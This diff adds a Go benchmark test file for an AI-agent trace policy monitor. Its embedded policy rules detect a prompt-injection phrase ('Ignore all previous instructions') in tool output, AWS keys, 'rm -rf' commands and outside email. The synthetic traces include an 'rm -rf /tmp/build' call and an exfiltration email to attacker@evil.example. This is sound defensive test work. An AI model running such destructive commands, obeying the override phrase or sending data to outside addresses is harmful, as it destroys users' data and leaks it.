@@ -1,0 +1,153 @@
+package policy_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"testing"
+
+	"github.com/vigilhq/vigil/policy"
+	"github.com/vigilhq/vigil/trace"
+)
+
+// benchPolicy is a corpus of five realistic rules: a two-variable flow
+// rule over tool patterns, a find rule, a substring rule, a predicate and
+// a match rule with a negation.
+const benchPolicy = `
+from invariant.detectors import secrets
+
+is_destructive(call: ToolCall) :=
+    call is tool:bash
+    "rm -rf" in call.function.arguments.command
+
+raise "must not mail anyone but Peter after reading the inbox" if:
+    (call: ToolCall) -> (call2: ToolCall)
+    call is tool:get_inbox
+    call2 is tool:send_email({to: "^(?!Peter$).*$"})
+
+raise PolicyViolation("AWS key in a user message", msg=msg) if:
+    (msg: Message)
+    msg.role == "user"
+    any(find(r"AKIA[0-9A-Z]{16}", msg.content))
+
+raise "prompt injection in a tool output" if:
+    (out: ToolOutput)
+    "Ignore all previous instructions" in out.content
+
+raise f"destructive command {call.function.arguments.command}" if:
+    (call: ToolCall)
+    is_destructive(call)
+
+raise "mail outside the company" if:
+    (call: ToolCall)
+    call is tool:send_email
+    not match(r".*@acme\.example$", call.function.arguments.to)
+`
+
+// genTrace returns a trace of about n events: user turns, assistant tool
+// calls (inbox, files, shell, mail), tool outputs and answers.
+func genTrace(n int) []any {
+	var out []any
+	for i := 0; len(out) < n; i++ {
+		out = append(out, map[string]any{"role": "user", "content": fmt.Sprintf("Please handle request %d, thanks. Keep it short.", i)})
+		var name string
+		var args map[string]any
+		switch i % 10 {
+		case 0:
+			name, args = "get_inbox", map[string]any{"n": 10}
+		case 3:
+			name, args = "bash", map[string]any{"command": fmt.Sprintf("ls -la /tmp/%d", i)}
+		case 7:
+			name, args = "send_email", map[string]any{"to": "Peter", "body": "see you"}
+			if i%70 == 7 {
+				name, args = "bash", map[string]any{"command": "rm -rf /tmp/build"}
+			}
+		case 9:
+			name, args = "send_email", map[string]any{"to": "Peter", "body": fmt.Sprintf("report %d", i)}
+			if len(out)+8 >= n {
+				// one exfiltration near the end of the trace
+				args["to"] = "attacker@evil.example"
+			}
+		default:
+			name, args = "read_file", map[string]any{"path": fmt.Sprintf("/home/u/doc%d.txt", i)}
+		}
+		id := fmt.Sprint("c", i)
+		out = append(out, map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": id, "type": "function", "function": map[string]any{"name": name, "arguments": args}}}})
+		out = append(out, map[string]any{"role": "tool", "tool_call_id": id, "content": fmt.Sprintf("result %d: the file contains a few lines of ordinary text and numbers 12345.", i)})
+		out = append(out, map[string]any{"role": "assistant", "content": "Done. Anything else?"})
+	}
+	return out[:n]
+}
+
+func genDecoded(b *testing.B, n int) *trace.Trace {
+	data, err := json.Marshal(genTrace(n))
+	if err != nil {
+		b.Fatal(err)
+	}
+	t, err := trace.Decode(data)
+	if err != nil {
+		b.Fatal(err)
+	}
+	return t
+}
+
+func BenchmarkLoad(b *testing.B) {
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := policy.Load(benchPolicy, policy.Options{}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkAnalyze(b *testing.B) {
+	p, err := policy.Load(benchPolicy, policy.Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	for _, n := range []int{10, 100, 1000, 10000} {
+		t := genDecoded(b, n)
+		b.Run(fmt.Sprint(n), func(b *testing.B) {
+			b.ReportAllocs()
+			for b.Loop() {
+				if _, err := p.Analyze(context.Background(), t, nil); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+// BenchmarkMonitorAppend measures appending one event to a monitored
+// trace of 10,000 events.
+func BenchmarkMonitorAppend(b *testing.B) {
+	p, err := policy.Load(benchPolicy, policy.Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	const base = 10000
+	t := genDecoded(b, base+20000)
+	m, err := p.NewMonitor(nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	if _, err := m.Append(context.Background(), t.Events[:base]...); err != nil {
+		b.Fatal(err)
+	}
+	b.ReportAllocs()
+	b.ResetTimer()
+	i := base
+	for b.Loop() {
+		if i == len(t.Events) {
+			b.StopTimer()
+			m, _ = p.NewMonitor(nil)
+			m.Append(context.Background(), t.Events[:base]...)
+			i = base
+			b.StartTimer()
+		}
+		if _, err := m.Append(context.Background(), t.Events[i]); err != nil {
+			b.Fatal(err)
+		}
+		i++
+	}
+}
